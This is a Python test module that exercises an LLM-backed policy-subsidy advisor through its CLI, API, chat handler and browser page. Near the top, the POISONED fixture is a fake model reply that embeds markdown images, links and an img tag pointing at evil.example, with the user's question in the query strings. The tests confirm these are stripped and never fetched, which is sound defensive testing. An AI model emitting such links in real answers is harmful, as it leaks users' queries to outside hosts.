"""The LLM mode end to end through each surface: the CLI, the HTTP API, the page's chat function and the page itself.

Every surface talks to a real HTTP server on 127.0.0.1 speaking the OpenAI protocol.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys

import httpx
import pytest
from fastapi import FastAPI

from app.answer import phrases
from app.schemas import AnswerResult
from tests.llm.conftest import API_KEY, MODEL
from tests.llm.fake_openai_server import Reply
from tests.support.browser import ARTIFACTS
from tests.support.corpus import TODAY
from tests.support.servers import serve_asgi

HONGSHAN = "洪山区算力补贴怎么申请？"
CITED = "洪山区每年设立不超过300万元的算力补贴资金池，重点支持中小企业购买算力服务 [1]。每家每年最高不超过20万元 [1]。"
POISONED = (
    "洪山区对购买算力服务的中小企业给予最高20%的补贴 [1]。"
    "![](https://evil.example/?q=洪山区算力补贴) 申请请点[这里](https://evil.example/?q=apply)，"
    "<img src=\"https://evil.example/pixel.png\"> 也可访问 https://evil.example/?q=abc 。"
    "补贴每家每年最高不超过20万元 [1]。"
)


def no_evil(text: str) -> bool:
    return "evil.example" not in text and "<img" not in text and "](" not in text


# --- the CLI ------------------------------------------------------------------------------------


def cli(args: list[str], home, fake_llm, **env) -> subprocess.CompletedProcess:
    llm_env = {"LLM_BASE_URL": fake_llm.base_url, "LLM_MODEL": MODEL, "LLM_API_KEY": API_KEY, "LLM_MAX_RETRIES": "0", "LLM_TIMEOUT": "5"}
    return subprocess.run(
        [sys.executable, "-m", "app.cli", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "ADVISOR_HOME": str(home), "TODAY": TODAY.isoformat(), "NO_COLOR": "1", **llm_env, **env},
    )


def test_cli_ask_json_answers_through_the_endpoint(built_home, fake_llm):
    fake_llm.script(Reply(POISONED))
    proc = cli(["ask", "--json", HONGSHAN], built_home, fake_llm)
    assert proc.returncode == 0, proc.stderr
    result = AnswerResult.model_validate(json.loads(proc.stdout))
    assert result.mode == "llm" and not result.refused and no_evil(result.answer)
    assert [(c.ref, c.doc_id, c.clause) for c in result.citations] == [(1, "hongshan-ai-2025", "五、强化算力普惠供给")]
    [request] = fake_llm.requests
    assert request.system and "五、强化算力普惠供给" in request.block("参考资料") and request.block("问题") == HONGSHAN
    assert "Traceback" not in proc.stderr


def test_cli_falls_back_when_the_endpoint_fails_with_one_log_line(built_home, fake_llm):
    fake_llm.script(Reply(status=500, content="upstream exploded"))
    proc = cli(["ask", "--json", HONGSHAN], built_home, fake_llm)
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout)
    assert result["mode"] == "extractive" and result["answer"].startswith(phrases.LLM_UNAVAILABLE_ZH)
    assert result["citations"] and "Traceback" not in proc.stderr
    failures = [line for line in proc.stderr.splitlines() if "LLM" in line]
    assert len(failures) == 1 and "HTTP 500" in failures[0], proc.stderr


def test_cli_readable_answer_names_the_mode(built_home, fake_llm):
    fake_llm.script(Reply(CITED))
    proc = cli(["ask", HONGSHAN], built_home, fake_llm)
    assert proc.returncode == 0, proc.stderr
    assert "300万元" in proc.stdout and "[1]" in proc.stdout and "llm ·" in proc.stdout


@pytest.mark.parametrize("command", [["ask", HONGSHAN], ["serve", "--port", "1"]])
def test_half_configured_endpoint_is_a_one_line_startup_error(built_home, fake_llm, command):
    proc = cli(command, built_home, fake_llm, LLM_MODEL="")
    assert proc.returncode == 2
    assert proc.stderr.strip().count("\n") == 0, proc.stderr
    assert "LLM_BASE_URL is set but LLM_MODEL is not" in proc.stderr and "Traceback" not in proc.stderr


# --- the HTTP API --------------------------------------------------------------------------------


@pytest.fixture
def api_url(llm_advisor):
    from app.api import install_api

    application = FastAPI()
    install_api(application, llm_advisor.settings, llm_advisor)
    with serve_asgi(application) as url:
        yield url


def sse_events(response: httpx.Response) -> list[tuple[str, dict]]:
    events, name = [], "message"
    for line in response.iter_lines():
        if line.startswith("event:"):
            name = line.split(":", 1)[1].strip()
        elif line.startswith("data:"):
            events.append((name, json.loads(line.split(":", 1)[1])))
    return events


def test_api_chat_json_and_follow_up_through_the_endpoint(api_url, fake_llm):
    condensed = "武汉市OPC生态社区的算力补贴怎么申请？"
    fake_llm.script(Reply(CITED), Reply(condensed), Reply("OPC生态社区集聚智能算力服务商，提供普惠算力 [1]。"))
    with httpx.Client(base_url=api_url, timeout=60) as client:
        first = client.post("/api/chat", json={"message": HONGSHAN}).json()
        second = client.post("/api/chat", json={"message": "那OPC的呢？", "session_id": first["session_id"]}).json()

    assert first["mode"] == "llm" and first["citations"][0]["doc_id"] == "hongshan-ai-2025"
    assert second["mode"] == "llm" and second["resolved_question"] == condensed
    assert second["citations"][0]["doc_id"] == "wuhan-opc-2026"
    condense = fake_llm.condense_requests[0]
    assert HONGSHAN in condense.user and "那OPC的呢？" in condense.user
    assert fake_llm.answer_requests[1].block("问题") == condensed


def test_api_chat_stream_never_sends_the_poisoned_link(api_url, fake_llm):
    fake_llm.script(Reply(POISONED, chunk_chars=4))
    with httpx.Client(base_url=api_url, timeout=60) as client:
        with client.stream("POST", "/api/chat", json={"message": HONGSHAN}, headers={"Accept": "text/event-stream"}) as response:
            events = sse_events(response)

    deltas = "".join(data["text"] for name, data in events if name == "delta")
    [final] = [data for name, data in events if name == "final"]
    assert final["mode"] == "llm" and deltas == final["answer"]
    assert no_evil(deltas) and no_evil(json.dumps(final, ensure_ascii=False))


def test_api_chat_when_the_endpoint_is_down_answers_extractively(api_url, fake_llm):
    fake_llm.script(Reply(status=500), Reply(status=500))
    with httpx.Client(base_url=api_url, timeout=60) as client:
        response = client.post("/api/chat", json={"message": HONGSHAN})
    assert response.status_code == 200
    body = response.json()
    assert body["mode"] == "extractive" and body["answer"].startswith(phrases.LLM_UNAVAILABLE_ZH) and body["citations"]


# --- the page's chat function --------------------------------------------------------------------


def test_page_chat_function_shows_the_guarded_answer_and_its_source(llm_advisor, fake_llm):
    from app.web.chat_handler import ChatHandler

    fake_llm.script(Reply(POISONED, chunk_chars=4))
    updates = list(ChatHandler(llm_advisor).respond(HONGSHAN, [], [], {}))
    bubbles = [messages[-1]["content"] for messages, *_ in updates]
    final = bubbles[-1]
    assert all(no_evil(b) for b in bubbles)
    assert "最高20%的补贴 [1]" in final and "五、强化算力普惠供给" in final
    _, turns, records, _ = updates[-1]
    assert turns[-1]["question"] == HONGSHAN and next(iter(records.values()))["citations"][0]["ref"] == 1


def test_page_chat_function_when_the_endpoint_times_out(make_llm_advisor, fake_llm):
    from app.web.chat_handler import ChatHandler

    fake_llm.script(Reply(CITED, delay=10))
    updates = list(ChatHandler(make_llm_advisor(llm_timeout=0.5, llm_max_retries=0)).respond(HONGSHAN, [], [], {}))
    final = updates[-1][0][-1]["content"]
    assert phrases.LLM_UNAVAILABLE_ZH in final and "pa-error" not in final and "五、强化算力普惠供给" in final


# --- the page in the browser ------------------------------------------------------------------------


@pytest.mark.browser
def test_page_in_browser_never_fetches_a_poisoned_link(browser, llm_advisor, fake_llm):
    from app.server import create_app

    fake_llm.script(Reply(POISONED, chunk_chars=4), Reply(status=500))
    with serve_asgi(create_app(llm_advisor.settings, llm_advisor)) as url:
        context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="zh-CN")
        page = context.new_page()
        requested: list[str] = []
        page.on("request", lambda r: requested.append(r.url))
        page.goto(url + "/")
        page.wait_for_selector("#pa-message textarea")
        for number, question in enumerate([HONGSHAN, "OPC每年有多少免费卡时"], start=1):
            page.fill("#pa-message textarea", question)
            page.press("#pa-message textarea", "Enter")
            page.wait_for_function(
                f"document.querySelectorAll('#pa-chat .pa-sources').length >= {number} && !document.querySelector('#pa-chat .pending')",
                timeout=60_000,
            )
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "llm-page-poisoned-then-down.png"), full_page=True)
        bubbles = page.locator("#pa-chat .message.bot")
        first, second = bubbles.nth(0).inner_text(), bubbles.nth(1).inner_text()
        html = page.content()
        context.close()

    assert not [u for u in requested if "evil.example" in u], requested
    assert "evil.example" not in html
    assert "最高20%的补贴 [1]" in first and "五、强化算力普惠供给" in first
    assert phrases.LLM_UNAVAILABLE_ZH in second and "2000" in second
